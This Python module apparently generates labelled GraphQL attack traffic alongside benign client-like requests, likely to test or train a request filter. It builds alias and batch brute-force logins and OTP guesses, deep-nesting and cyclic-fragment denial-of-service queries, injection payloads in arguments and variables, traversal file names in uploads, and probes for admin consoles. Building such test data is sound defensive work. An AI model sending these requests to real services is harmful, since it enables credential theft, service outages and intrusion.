"""GraphQL abuse: introspection, aliases, batches, directives, fragments and depth beyond use, secrets and roles, injections in arguments. Twins are what clients of real schemas send.

graphql.grammar has the operations; here they are repeated, nested, laid out and put into requests (GraphQL over HTTP, multipart requests, persisted queries).
"""

import inject
import json
import re

from . import grammar, lexicon, places

INJECTED = ("sqli", "sqli", "sqli", "ssti", "cmdi-unix", "cmdi-windows", "xss", "xss", "ldap", "traversal", "xpath", "ssrf", "crlf", "log4shell", "code", "ssi", "rfi", "mail", "nosql")
TOKEN = re.compile(r'"""(?:[^"]|"(?!""))*"""|"(?:\\.|[^"\\\n])*"|#[^\n]*\n?|\.\.\.|[A-Za-z_]\w*|-?\d[\w.]*|[^\s,]')
GAPS = (",", ",,", ", ", "\t", "\r\n", "\n", "  ", "\n\n", " ,", "\ufeff", "\r")


def rule(name, rng):
    return grammar.load("graphql").expand(name, rng)


def payload(rng):
    """A short attack of another language, as an argument."""
    name = rng.choice(INJECTED)
    if name == "nosql":
        return rng.choice(('{"$ne": null}', '{"$gt": ""}', "' || '1'=='1", "'; return true; var x='", f'{{"$regex": "^{lexicon.word(rng)}"}}', '{"$where": "sleep(1000)"}'))
    return grammar.load(name).expand("attack", rng)


# --- layout ----------------------------------------------------------------------

def tight(tokens, gap):
    """No white space but between two words."""
    out, last = [], "{"
    for token in tokens:
        if (last[-1].isalnum() or last[-1] == "_") and (token[0].isalnum() or token[0] in "_-"):
            out.append(gap)
        out.append(token)
        last = token
    return "".join(out)


def spread(tokens, line, indent, inner):
    """One field a line, or all on one line; arguments on the line of their field."""
    out, last, before, braces, round_ = [], "", "", 0, 0
    for token in tokens:
        if round_:
            if token in "):!]" or last in ("(", "[", "$", "@"):
                gap = ""
            elif token == "}" or last == "{":
                gap = inner
            else:
                gap = " " if last in (":", "=") or token in "=|&" else ", "
            round_ += (token in "([{") - (token in ")]}")
        elif token == "(":
            gap, round_ = "", 1
        else:
            if token == "}":
                braces -= 1
            if not last or token == ":" or last in ("$", "@") or (last == "..." and token not in ("on", "{", "@")):
                gap = ""
            elif token == "{" or token == "@" or last == ":" or last == "..." or (last == "on" and before in ("...", "fragment")) or (braces <= 0 and token != "}" and last != "}"):
                gap = " "
            else:
                gap = line + indent * max(braces, 0)
            if token == "{":
                braces += 1
        out.append(gap)
        out.append(token)
        before, last = (last if token == "on" else before), token
    return "".join(out)


def layout(text, rng, tricks=0.06):
    """The same document as another printer or client writes it."""
    draw = rng.random()
    if draw < 0.3 or len(text) > 9000:
        return text
    tokens = TOKEN.findall(text)
    if rng.random() < tricks:
        gap = rng.choice(GAPS if tricks > 0.1 else GAPS[:7]) if rng.random() < 0.7 else f"#{lexicon.word(rng)}\n"
        return tight(tokens, gap) if rng.random() < 0.5 else gap.join(tokens)
    if draw < 0.5:
        return tight(tokens, rng.choice((" ", " ", ",", "\n")))
    inner = rng.choice(("", " "))
    if draw < 0.85:
        return spread(tokens, "\n", rng.choice(("  ", "  ", "    ", "\t", "      ")), inner)
    return spread(tokens, rng.choice((" ", " ", "\n", "\r\n")), "", inner)


# --- attacks ---------------------------------------------------------------------

def introspection(rng):
    return rule("introspection", rng)


def argument(rng, kind):
    """Of a call that is tried again and again: a login, a code, a number, none."""
    if kind == "login":
        return f'({rng.choice(("username", "email", "login", "user", "name", "u"))}: "{rng.choice(("admin", "root", rule("noun", rng), lexicon.email(rng), lexicon.word(rng)))}", {rng.choice(("password", "pass", "pwd", "passwd", "p"))}: "{lexicon.word(rng) if rng.random() < 0.8 else lexicon.token(rng)}{rng.choice(("", rng.randint(0, 99999), "!", "123", "@2024"))}")'
    if kind == "code":
        return f'({rng.choice(("code", "otp", "pin", "token", "coupon", "mfaCode"))}: "{rng.randint(0, 999999):06d}")'
    return ""


def aliases(rng):
    """One field many times under other names."""
    field, count = rng.choice((rule("field", rng), "login", "signIn", "verifyOtp", "redeemCoupon", "checkPassword", "transfer", "user", "vote")), rng.randint(8, 90)
    kind = rng.choice(("login", "login", "login", "code", "code", "number", "number", "same", ""))
    prefix, start = rng.choice(("a", "a", "alias", "q", "x", "_", "b", "t", "login", "try", "op", lexicon.word(rng))), rng.choice((0, 0, 1, rng.randint(0, 10000)))
    key, leaf, fixed = rng.choice(("id", "userId", "uid", lexicon.word(rng))), rng.choice(("{ id }", "{ token }", "{ success }", "{ id name }", "{ email }", "", f"{{ {rule('leaf', rng)} {rule('leaf', rng)} }}")), rule("arg", rng)
    quote, pad, who = rng.choice(("", "", '"')), rng.choice(("", "", "_")), argument(rng, "login")
    cut = who.rfind(": \"")
    items = []
    for index in range(count):
        if kind == "login":
            text = argument(rng, kind) if rng.random() < 0.1 else f'{who[:cut]}: "{lexicon.word(rng).title()}{rng.randint(0, 20000)}")'
        elif kind == "number":
            text = f"({key}: {quote}{start + index}{quote})"
        else:
            text = argument(rng, kind) if kind != "same" else f"({fixed})"
        items.append(f"{prefix}{pad}{start + index if start < 2 else index}: {field}{text} {leaf}")
    return rng.choice(("mutation ", "query ", "", f"mutation {lexicon.ident(rng)} ", "mutation ")) + "{ " + " ".join(items) + " }"


def deep(rng):
    """A few fields that lead to each other, nested far."""
    fields = [rule("noun", rng) + rng.choice(("", "s")) for _ in range(rng.choice((1, 2, 2, 2, 3)))]
    if rng.random() < 0.25:
        fields = [step for name in fields for step in (name, "edges", "node")]
    if rng.random() < 0.3:
        fields[0] += f"({rng.choice(('first', 'limit'))}: {rng.choice((10, 50, 100, 1000))})"
    depth = rng.randint(8, 60)
    leaf = " ".join(rule("leaf", rng) for _ in range(rng.randint(1, 2)))
    extra = rng.choice(("", "", "", "id "))
    return rng.choice(("query ", "query ", "", f"query {lexicon.ident(rng)} ")) + "{ " + f" {{ {extra}".join(fields[i % len(fields)] for i in range(depth)) + " { " + leaf + " }" * (depth + 1)


def inline(rng):
    """Inline fragments nested far, or as many side by side."""
    on = rng.choice(("", "on Query ", f"on {rule('type', rng)} "))
    count = rng.randint(8, 60)
    if rng.random() < 0.6:
        return "query { " + f"... {on}{{ " * count + "__typename" + " }" * (count + 1)
    return "{ " + f"... {on}{{ {rule('leaf', rng)} }} " * count + "}"


def directives(rng):
    count = rng.randint(8, 160)
    name = rng.choice(("@include(if: true)", "@skip(if: false)", "@" + lexicon.word(rng), "@deprecated", "@aa", "@" + lexicon.ident(rng), "@include(if: $x)"))
    names = [name] * count if rng.random() < 0.8 else [f"@{lexicon.word(rng)}" for _ in range(count)]
    return rng.choice(("query ", "", "query Q ")) + "{ " + rng.choice(("__typename", rule("field", rng))) + " " + rng.choice((" ", " ", "")).join(names) + rng.choice((" }", " { id } }"))


def fragments(rng):
    """Fragments in a circle, or doubling at every step."""
    stem = rng.choice(("", lexicon.word(rng).title(), rng.choice("ABFxf")))
    names = [(stem or lexicon.ident(rng)) + (str(i) if stem else "") for i in range(rng.randint(1, 7))]
    kind = rule("type", rng)
    root = rng.choice((f"query {{ ...{names[0]} }}", f"query {lexicon.ident(rng)} {{ {rule('field', rng)} {{ ...{names[0]} }} }}", f"{{ ...{names[0]} }}"))
    if rng.random() < 0.55:
        extra = rng.choice(("", "", "id ", rule("leaf", rng) + " "))
        wrap = rng.choice(("", "", rule("field", rng)))
        parts = [f"fragment {name} on {kind} {{ {extra}{wrap + ' { ' if wrap else ''}...{names[(i + 1) % len(names)]}{' }' if wrap else ''} }}" for i, name in enumerate(names)]
    else:
        times = rng.randint(3, 12)
        parts = [f"fragment {name} on {kind} {{ {' '.join(['...' + names[i + 1] if i + 1 < len(names) else '__typename'] * times)} }}" for i, name in enumerate(names)]
    return " ".join(parts + [root] if rng.random() < 0.25 else [root] + parts)


def fields_flood(rng):
    name = rng.choice(("__typename", lexicon.word(rng), rule("field", rng), f"{rule('field', rng)} {{ id }}", f"{rule('field', rng)} {rule('field', rng)}"))
    return rng.choice(("query ", "")) + "{ " + rng.choice((" ", "\n", ",")).join([name] * rng.randint(30, 300)) + " }"


def nested_value(rng):
    """A list or an object of lists and objects, far deeper than any input."""
    depth, key = rng.randint(10, 120), rng.choice(("a", "_and", "_or", "AND", "not", lexicon.word(rng)))
    opening, closing = rng.choice((("[", "]"), (f"{{{key}: ", "}"), (f"{{{key}: [", "]}")))
    return f"query {{ {rule('field', rng)}({rng.choice(('where', 'filter', 'input', 'ids', lexicon.word(rng)))}: {opening * depth}{rng.choice(('1', 'true', '{}'))}{closing * depth}) {{ id }} }}"


def literal(text, rng):
    """A text as a string, block string, list or input object of the language."""
    draw = rng.random()
    if draw < 0.1 and '"""' not in text:
        return f'"""{text}"""'
    text = json.dumps(text, ensure_ascii=rng.random() < 0.3)
    if draw < 0.65:
        return text
    word = rule("leaf", rng)
    return rng.choice((f"[{text}]", f"{{ {word}: {text} }}", f"{{ {word}: {{ {rng.choice(('_eq', 'eq', '_like', 'contains', 'in'))}: {text} }} }}", f'["{lexicon.word(rng)}", {text}]', f"{{ {rule('arg', rng)}, {word}: {text} }}"))


def injected(rng):
    """An operation whose literal argument carries another attack."""
    text = literal(payload(rng), rng)
    key = rng.choice(("id", "name", "search", "filter", "where", "query", "orderBy", "input", "url", "path", "email", "username", "slug", lexicon.word(rng), rule("leaf", rng)))
    extra = rule("arg", rng)
    arguments = rng.choice((f"{key}: {text}", f"{key}: {text}", f"{key}: {text}, {extra}", f"{extra}, {key}: {text}"))
    body = " ".join(rule("sel", rng) for _ in range(rng.randint(1, 3)))
    if rng.random() < 0.06:
        return f"query {{ {rule('field', rng)} @{lexicon.word(rng)}({arguments}) {{ {body} }} }}"
    if rng.random() < 0.06:
        return f"query {lexicon.ident(rng)}(${key}: String = {text}) {{ {rule('field', rng)}({key}: ${key}) {{ {body} }} }}"
    return f"{rng.choice(('query ', 'mutation ', '', f'query {lexicon.ident(rng)} ', f'mutation {lexicon.ident(rng)} '))}{{ {rng.choice(('', '', lexicon.word(rng) + ': '))}{rule('field', rng)}({arguments}) {{ {body} }} }}"


ATTACKS = (introspection, aliases, deep, inline, directives, fragments, fields_flood, nested_value, injected, lambda rng: rule("privilege", rng), lambda rng: rule("probe", rng), lambda rng: rule("greedy", rng), lambda rng: rule("further", rng))


def attack_query(rng):
    return layout(rng.choices(ATTACKS, (6, 3, 2, 0.6, 1.4, 1.4, 0.7, 0.5, 4, 1.8, 0.8, 0.9, 20))[0](rng), rng, 0.12)


def plain_query(rng):
    text = rule("twinop" if rng.random() < 0.55 else "furthertwin", rng)
    if rng.random() < 0.12:  # a page's document: one operation and the fragments of all its components
        text += "".join(f" fragment {rule('fragname', rng)} on {rule('noun', rng).title()} {{ {' '.join(rule('long', rng) for _ in range(rng.randint(2, 12)))} }}" for _ in range(rng.randint(1, 9)))
    if rng.random() < 0.05:  # as programmers comment
        text = f"# {rule('prose', rng)}\n{text}"
    return layout(text, rng, 0.04)


def value(attack, rng):
    if not attack and rng.random() < 0.2:
        return rule("twin", rng)
    return attack_query(rng) if attack else plain_query(rng)


# --- requests --------------------------------------------------------------------

def batch(attack, rng):
    if not attack:
        return [{"operationName": lexicon.ident(rng), "variables": {}, "query": plain_query(rng)} for _ in range(rng.choice((2, 2, 2, 3, 3, 4, 5, 8)))]
    draw = rng.random()
    if draw < 0.45:
        field, leaf, key = rng.choice((rule("field", rng), "login", "signIn", "verify")), rng.choice(("token", "success", "id", "user { id }")), rng.choice(("login", "login", "code"))
        return [{"query": f"mutation {{ {field}{argument(rng, key)} {{ {leaf} }} }}"} for _ in range(rng.randint(8, 60))]
    if draw < 0.65:
        name, query = lexicon.ident(rng), f"mutation {lexicon.ident(rng).title()}($u: String!, $p: String!) {{ login(username: $u, password: $p) {{ token }} }}"
        return [{"query": query, "variables": {"u": name, "p": lexicon.word(rng) + str(rng.randint(0, 9999))}} for _ in range(rng.randint(8, 40))]
    if draw < 0.8:
        return [{"query": rng.choice(("{ __typename }", "query{a}", plain_query(rng)))}] * rng.randint(20, 90)
    return [{"query": attack_query(rng)}] * rng.randint(2, 6)


def persisted(rng):
    """Hashes that no client makes."""
    bad = rng.choice((payload(rng), "0" * 64, "a" * 64, "", "../" * rng.randint(2, 6) + lexicon.word(rng), ["x"], {"$ne": ""}, lexicon.word(rng)))
    out = {"extensions": {"persistedQuery": {"version": rng.choice((1, 1, -1, 999, "1")), "sha256Hash": bad}}}
    if rng.random() < 0.5:
        out["query"] = attack_query(rng)
    return out if rng.random() < 0.85 else {rng.choice(("id", "queryId", "documentId", "doc_id")): payload(rng), "variables": {}}


def in_variable(rng):
    """An ordinary operation with the attack in a variable, anywhere in it."""
    text, key = payload(rng), rng.choice(("id", "input", "search", "name", lexicon.word(rng), rule("leaf", rng)))
    held = rng.choice((text, text, text, [text], {rule("leaf", rng): text}, {"filter": {rule("leaf", rng): {"_eq": text}}}, {**places.fields(rng, 3), lexicon.word(rng): text}))
    kind = rng.choice(("String!", "String", "ID!", "[String!]", "JSON", rule("noun", rng).title() + "Input!"))
    query = layout(f"{rng.choice(('query', 'mutation'))} {rule('opname', rng)}(${key}: {kind}) {{ {rule('field', rng)}({key}: ${key}) {{ {rule('sel', rng)} {rule('sel', rng)} }} }}", rng, 0.02)
    return {"query": query, "variables": {**places.fields(rng, 2), key: held}}


def document(attack, rng):
    """A GraphQL over HTTP request body: one request or a batch."""
    if rng.random() < (0.14 if attack else 0.07):
        return batch(attack, rng)
    if attack and rng.random() < 0.04:
        return persisted(rng)
    if attack and rng.random() < 0.32:
        out = in_variable(rng)
    else:
        out = {"query": attack_query(rng) if attack else plain_query(rng)}
        if rng.random() < 0.6:
            out["variables"] = rng.choice(({}, None)) if attack or rng.random() < 0.3 else variables(rng)
    if rng.random() < 0.4:
        out["operationName"] = None if rng.random() < 0.2 else rule("opname", rng) if not attack or rng.random() < 0.95 else payload(rng)
    if rng.random() < 0.08:
        out["extensions"] = rng.choice(({"persistedQuery": {"version": 1, "sha256Hash": f"{rng.getrandbits(256):064x}"}}, {"clientLibrary": {"name": "@apollo/client", "version": f"3.{rng.randint(0, 12)}.{rng.randint(0, 9)}"}}))
    return dict(places.shuffled(out.items(), rng))


def variables(rng):
    """What clients send beside an operation: identifiers, text, nested input."""
    out = {rng.choice(("id", "input", "first", "after", lexicon.word(rng))): rng.choice((rng.randint(1, 9999), lexicon.uuid(rng), rule("prose", rng), [lexicon.word(rng)], True, None, places.fields(rng)))}
    for _ in range(rng.randint(0, 4)):
        out[rule("leaf", rng)] = rng.choice((places.filler(rng), rule("prose", rng), rule("plainvalue", rng), lexicon.email(rng)))
    if rng.random() < 0.2:
        out["filter"] = {rule("leaf", rng): {rng.choice(("_eq", "eq", "in", "contains", "_ilike")): rng.choice((lexicon.word(rng), [lexicon.word(rng)], rng.randint(0, 99)))}}
    return out


def upload(attack, rng):
    """Parts of a GraphQL multipart request (operations, map, files)."""
    operations = json.dumps(document(attack, rng) if attack and rng.random() < 0.6 else {"query": f"mutation {rule('opname', rng)}($file: Upload!) {{ {rng.choice(('upload', 'uploadFile', 'setAvatar', 'importFile', 'attach'))}(file: $file) {{ {rule('leaf', rng)} }} }}", "variables": {"file": None}})
    many = rng.random() < 0.2
    paths = {"0": ["variables.file"]} if not many else {str(i): [f"variables.files.{i}"] for i in range(rng.randint(2, 5))}
    name = f"{lexicon.word(rng)}.{rng.choice(('png', 'jpg', 'pdf', 'txt', 'csv'))}"
    if attack:
        draw = rng.random()
        if draw < 0.35:
            paths = rng.choice(({"0": ["variables.file"] * rng.randint(50, 300)}, {"0": [f"variables.{rng.choice(('__proto__', 'constructor.prototype'))}.{lexicon.word(rng)}"]}, {"0": ["query"]}, {"0": ["operationName"]},
                                {str(i): ["variables.file"] for i in range(rng.randint(60, 300))}, {"0": ["variables." + ".".join(["a"] * rng.randint(40, 200))]}, {"0": [f"variables.file.{payload(rng)}"]}))
        elif draw < 0.75:
            name = rng.choice(("../" * rng.randint(1, 6) + f"{lexicon.word(rng)}.php", f"{lexicon.word(rng)}.php%00.png", payload(rng)[:150].replace("\r", "").replace("\n", "").replace('"', "%22").replace("\x00", "%00")))
        elif "__" not in operations:
            operations = json.dumps(document(True, rng))
    return [('name="operations"', "", operations), ('name="map"', "", json.dumps(paths))] + [(f'name="{key}"; filename="{name}"', rng.choice(("text/plain", "image/png", "application/octet-stream")), lexicon.word(rng)) for key in list(paths)[:5]]


ROOTS = ("/graphql", "/graphql", "/graphql", "/graphql", "/api/graphql", "/api", "/v1/graphql", "/query", "/gql", "/graphql/v2", "/api/v1/graphql", "/graphql/", "/api/gql", "/graph", "/data/graphql", "/shop/graphql", "/graphql.php", "/index.php?graphql")
CONSOLES = "graphiql graphiql.php playground graphql-playground altair voyager graphql-explorer graphql/console graphql/playground graphql/graphiql graphql/schema.json graphql/schema graphql.json graphql/schema.graphql v1/graphiql api/graphiql graphql-console gql/playground explorer subscriptions console/api-explorer graphql-devtools graphql/explorer schema.graphql introspection.json __graphql ___graphql graphql/voyager graphql/altair api/playground hasura/console v1/metadata v1/query laravel-graphql-playground graphql/debug graphql?debug=1 graphql?tracing=1 graphql-shield admin/graphql-ide".split()


def put(attack, carrier, rng):
    draw = rng.random()
    root = rng.choice(ROOTS)
    if draw < 0.6 and not (places.has_body(carrier) and rng.random() < 0.4):
        carrier["target"] = root + (f"?op={lexicon.ident(rng)}" if rng.random() < 0.2 and "?" not in root else "")
        body = document(attack, rng)
        if rng.random() < 0.04 and isinstance(body, dict):  # a message of graphql-ws or subscriptions-transport-ws
            body = {"id": str(rng.randint(1, 99)), "type": rng.choice(("start", "subscribe")), "payload": body}
        places.json_body(carrier, body, rng, rng.choice(("application/json", "application/json", "application/json; charset=utf-8", "application/graphql+json", "application/graphql-response+json", "text/plain" if attack else "application/json")))
        carrier["method"] = "POST"
        return "graphql"
    if draw < 0.75:
        query = value(attack, rng)
        if len(query) < 3000:
            carrier["target"] = root
            pairs = [f"query={inject.percent(query, rng)}"]
            if rng.random() < 0.3:
                pairs.append(f"operationName={lexicon.ident(rng)}")
            if rng.random() < 0.2:
                held = variables(rng) if not attack else in_variable(rng)["variables"]
                pairs.append(f"variables={inject.percent(json.dumps(held)[:1500], rng)}")
            if attack and rng.random() < 0.15:
                return places.form_body(carrier, pairs, rng) or "form"
            return places.add_query(carrier, pairs, rng)
    if draw < 0.84:
        carrier["target"] = root
        places.give(carrier, "application/graphql", value(attack, rng), rng, "POST")
        return "raw"
    if draw < 0.89:
        carrier["target"] = root
        return places.multipart_body(carrier, upload(attack, rng), rng)
    if draw < 0.902 and not places.has_body(carrier):
        carrier["target"] = "/" + (rng.choice(CONSOLES) if attack else f"{rng.choice(('blog', 'docs', 'tags', 'help', 'learn'))}/graphql-{lexicon.english(rng)}-{lexicon.english(rng)}{rng.choice(('', '/', '.html'))}")
        carrier["method"] = "GET"
        return "path"
    return ""
